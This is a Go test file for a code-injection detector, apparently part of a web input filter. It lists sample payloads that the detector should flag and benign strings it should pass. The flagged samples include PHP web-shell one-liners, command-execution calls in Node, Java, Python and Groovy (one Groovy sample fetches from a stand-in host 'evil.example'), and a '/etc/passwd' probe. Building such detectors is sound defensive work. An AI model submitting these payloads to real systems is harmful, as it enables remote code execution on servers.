package detect

import (
	"strings"
	"testing"
)

func FuzzCode(f *testing.F) { fuzz(f, Code) }

func TestCode(t *testing.T) {
	recognises(t, Code, Where{Place: InForm}, []string{
		"<?php system($_GET['c']); ?>",
		"<?=`id`?><?= eval($_POST[1]) ?>",
		"system('id')",
		"shell_exec(\"whoami\");",
		"phpinfo()",
		"';phpinfo();//",
		"eval(base64_decode('cGhwaW5mbygp'))",
		"${@print(md5(1))}system('x')",
		"(system)('id')",
		"$_GET[0]($_GET[1])",
		"require('child_process').exec('id')",
		"Runtime.getRuntime().exec('id')",
		"java.lang.Runtime",
		"new java.lang.ProcessBuilder('x')",
		"%{#context['x']}",
		"(@java.lang.Runtime@getRuntime())",
		"__import__('os').popen('id').read()",
		"while(true);",
		"org.apache.commons.collections.functors.InvokerTransformer",
		"allow_url_include=1",
		"exec /**/ ('id')",
		"@{[system 'id']}",
		`"id".execute().text`,
		"@GrabResolver(name='a', root='http://evil.example')\n@Grab(group='a')",
		"print(53*91);",
		"x();print(12+30);//",
		"a[#post_render][]",
		"().__class__.__bases__[0].__subclasses__()",
		"function(x){return(system(paste('id'), intern = T))}",
		"<?php echo 1",
		"subSTR($x)",
		"print_r($config)",
		"java.util.Scanner",
		"java.util.ArrayList.class",
		`$e("id")`,
		`$e=$_GET[0];$e("id")`,
		"const x=require('/tmp/upload')",
		"const x=require('child'+'_process')",
		"const a=b;c=require('fs')",
		"const a=require('vm');",
		"filemtime($_GET[f])",
		"filemtime('/etc/passwd')",
	}, []string{
		"<?php",
		"<?php ",
		"java.util.Date",
		"java.util.List<String>",
		`$uppercase("hello")`,
		"$sum(Account.Order.Product.(Price * Quantity))",
		`($f := function($x) { $x & "!" }; $f("x"))`,
		"filemtime($filename)",
		"fseek($stream, $offset)",
		`cursor.execute("x")`,
		"print(2)",
		"ann@grab.example",
		"[link](https://a.example)",
		"",
		"call system() in C",
		"the function f(x) = 2x",
		"print('hello')",
		"java is a language",
		"process the order",
		"while (we wait) there is tea",
		"required (yes)",
		"java.io.IOException: broken pipe",
		"const fs = require('fs');",
		"$5.00 (five)",
		"$100 (or best offer); cash only",
		"open(a) and close(b)",
		"assert yourself (politely)",
		"#parameters in the docs",
		"x@java.com",
		"include: yes",
		"runtime 95 min",
		"see php.net/manual",
		"exec summary (draft)",
	})
}

// TestGapOfAnyLength: what may stand before a bracket may be longer than what is
// looked at behind it.
func TestGapOfAnyLength(t *testing.T) {
	var s Scanner
	for n := range 2 * maxCallGap {
		found := len(s.Scan([]byte("(system"+strings.Repeat(" ", n)+")('id')"), &Where{Place: InForm})) > 0
		if found != (n <= maxCallGap) {
			t.Errorf("%d blanks: %v", n, found)
		}
	}
}
